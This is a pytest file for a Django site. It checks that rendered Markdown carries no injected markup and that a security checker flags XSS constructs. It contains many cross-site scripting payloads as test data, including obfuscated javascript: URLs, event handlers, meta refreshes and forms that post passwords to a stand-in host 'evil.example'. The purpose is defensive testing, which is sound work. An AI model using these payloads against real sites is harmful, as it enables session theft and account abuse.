"""Hostile Markdown never becomes markup, and the checker that says so really catches markup."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse

from config.markdown import render_inline, render_markdown
from tests.security.html_checks import (
    assert_no_injected_markup,
    assert_response_has_no_injected_markup,
    corpus_id,
    csp_nonce_of,
    find_injected_markup,
    hostile_strings,
    markdown_xss_strings,
    naughty_strings,
    url_scheme,
)

CSRF = "a" * 64


def test_the_corpora_are_loaded():
    ours, naughty = markdown_xss_strings(), naughty_strings()
    assert len(ours) > 150
    assert len(naughty) > 400
    assert "[click](java\tscript:alert(1))" in ours
    assert "[click](java\rscript:alert(1))" in ours
    assert "[click][evil]\n\n[evil]: javascript:alert(1)" in ours
    assert "<script>alert(123)</script>" in naughty


@pytest.mark.parametrize("source", hostile_strings(), ids=corpus_id)
def test_rendered_markdown_carries_no_injected_markup(source):
    assert_no_injected_markup(render_markdown(source))
    assert_no_injected_markup(render_inline(source))


def test_safe_links_survive_rendering():
    html = render_markdown("[NHS](https://www.nhs.uk/) and <mailto:help@example.org> and [here](/themes/)")
    assert_no_injected_markup(html)
    assert 'href="https://www.nhs.uk/"' in html
    assert 'href="mailto:help@example.org"' in html
    assert 'href="/themes/"' in html


# The checker itself: each hostile construct, given as raw HTML, must be reported.

@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<script>alert(1)</script>", "script"),
        ('<script src="https://evil.example/x.js"></script>', "script"),
        ('<svg><script>alert(1)</script></svg>', "script"),
        ('<img src="x" onerror="alert(1)">', "onerror"),
        ('<a href="javascript:alert(1)">x</a>', "javascript: URL"),
        ('<a href="JaVaScRiPt:alert(1)">x</a>', "javascript: URL"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "javascript: URL"),
        ('<a href="java&#x09;script:alert(1)">x</a>', "javascript: URL"),
        ('<a href="java\nscript:alert(1)">x</a>', "javascript: URL"),
        ('<a href=" \x01javascript:alert(1)">x</a>', "javascript: URL"),
        ('<a href="data:text/html,x">x</a>', "data: URL"),
        ('<a href="vbscript:x">x</a>', "vbscript: URL"),
        ('<img srcset="https://example.org/a.png 1x, javascript:alert(1) 2x">', "javascript: URL in srcset"),
        ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe>"),
        ('<object data="x"></object>', "<object>"),
        ('<embed src="x">', "<embed>"),
        ('<base href="https://evil.example/">', "<base>"),
        ('<meta http-equiv="Refresh" content="0;url=https://evil.example/">', "http-equiv"),
        ("<style>body{display:none}</style>", "<style>"),
        ('<p style="position:fixed">x</p>', "attribute style"),
        ('<a id="csrfmiddlewaretoken" href="https://example.org">x</a>', "attribute id"),
        ('<img name="getElementById">', "attribute name"),
        ('<div hx-post="/account/delete/" hx-trigger="load">x</div>', "attribute hx-post"),
        ('<a data-hx-get="/x">x</a>', "attribute data-hx-get"),
        ('<a href="https://example.org" target="_blank">x</a>', "attribute target"),
        ('<form action="https://evil.example/"><input name="password"></form>', "form in user content"),
        ("<input autofocus>", "<input>"),
        ("<math><mtext>x</mtext></math>", "<math>"),
    ],
)
def test_the_checker_reports_each_hostile_construct(html, expected):
    problems = find_injected_markup(html)
    assert any(expected in problem for problem in problems), problems
    with pytest.raises(AssertionError, match="Injected markup found"):
        assert_no_injected_markup(html)


def test_most_raw_html_entries_of_our_corpus_would_be_caught_without_the_sanitiser():
    """The corpus is only useful if it holds markup the checker recognises."""
    raw_html = [entry for entry in markdown_xss_strings() if entry.startswith("<") and not entry.startswith("<http")]
    caught = [entry for entry in raw_html if find_injected_markup(entry)]
    assert len(raw_html) > 50
    assert len(caught) >= 0.9 * len(raw_html), sorted(set(raw_html) - set(caught))


@pytest.mark.parametrize(
    ("value", "scheme"),
    [
        ("https://example.org", "https"),
        ("/themes/", None),
        ("#comment-3", None),
        ("  JAVASCRIPT:alert(1)", "javascript"),
        ("java\tscript:alert(1)", "javascript"),
        ("\x00javascript:alert(1)", "javascript"),
        ("java\x00script:alert(1)", None),  # not a scheme to a browser either: a relative URL
        ("mailto:a@example.org", "mailto"),
    ],
)
def test_url_scheme_reads_urls_the_way_browsers_do(value, scheme):
    assert url_scheme(value) == scheme


# Page mode: our own pages pass; markup that escaped a user-content container does not.

PAGE = """<!DOCTYPE html><html lang="en-GB"><head><title>t</title>
<link rel="stylesheet" href="/static/build/main.css"></head><body>
<script nonce="NONCE">document.body.className += ' js-enabled';</script>
<main id="maincontent"><h1 id="title">Thread</h1>
<div class="cg-prose">{user}</div>
<form method="post" action="/threads/1/reply/"><input type="hidden" name="csrfmiddlewaretoken" value="{csrf}">
<textarea name="body" id="id_body"></textarea><button class="nhsuk-button">Post</button></form>
<form method="get" action="/search/"><input name="q" id="q"></form>
{outside}</main><script type="module" src="/static/build/app.js"></script></body></html>"""


def page(user: str = "<p>Hello</p>", outside: str = "") -> str:
    return PAGE.format(user=user, outside=outside, csrf=CSRF)


def test_a_clean_page_passes_with_its_own_nonce_and_forms():
    assert_no_injected_markup(page(), csp_nonce="NONCE", allowed_forms={"/search/"})


def test_an_inline_script_without_the_pages_nonce_fails():
    problems = find_injected_markup(page(), csp_nonce="OTHER", allowed_forms={"/search/"})
    assert any("script on the page" in problem for problem in problems)


def test_an_unlisted_get_form_fails():
    problems = find_injected_markup(page(), csp_nonce="NONCE")
    assert any("GET form to '/search/'" in problem for problem in problems)


@pytest.mark.parametrize(
    ("outside", "expected"),
    [
        ('<form method="post" action="/account/delete/"><button>Win</button></form>', "without a CSRF token"),
        ('<form method="post" action="https://evil.example/"><input name="csrfmiddlewaretoken" value="'
         + CSRF + '"></form>', "another site"),
        ('<form method="post" action="//evil.example/"><input name="csrfmiddlewaretoken" value="'
         + CSRF + '"></form>', "another site"),
        ('<form method="post" action="/x/"><input name="csrfmiddlewaretoken" value="' + CSRF + '">'
         '<button formaction="https://evil.example/">Go</button></form>', "another site"),
        ('<script src="//evil.example/x.js"></script>', "script on the page"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link> to another host"),
        ('<a href="#" onclick="steal()">x</a>', "event handler attribute onclick"),
    ],
)
def test_markup_outside_user_content_must_still_be_ours(outside, expected):
    problems = find_injected_markup(page(outside=outside), csp_nonce="NONCE", allowed_forms={"/search/"})
    assert any(expected in problem for problem in problems), problems


def test_a_json_data_block_passes_outside_user_content_only():
    block = '<script id="js_data" type="application/json">{"a": 1}</script>'
    assert find_injected_markup(page(outside=block), csp_nonce="NONCE", allowed_forms={"/search/"}) == []
    problems = find_injected_markup(page(user=block), csp_nonce="NONCE", allowed_forms={"/search/"})
    assert any("script in user content" in problem for problem in problems)


def test_inside_user_content_even_a_nonce_script_and_our_kind_of_form_fail():
    user = ('<script nonce="NONCE">x()</script><form method="post" action="/x/">'
            f'<input name="csrfmiddlewaretoken" value="{CSRF}"></form>')
    problems = find_injected_markup(page(user=user), csp_nonce="NONCE", allowed_forms={"/search/"})
    assert any("script in user content" in problem for problem in problems)
    assert any("form in user content" in problem for problem in problems)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["home", "account_login", "account_signup", "articles:list"])
def test_our_own_pages_pass_the_checker(name):
    response = Client().get(reverse(name))
    assert response.status_code == 200
    assert csp_nonce_of(response)
    assert_response_has_no_injected_markup(response)
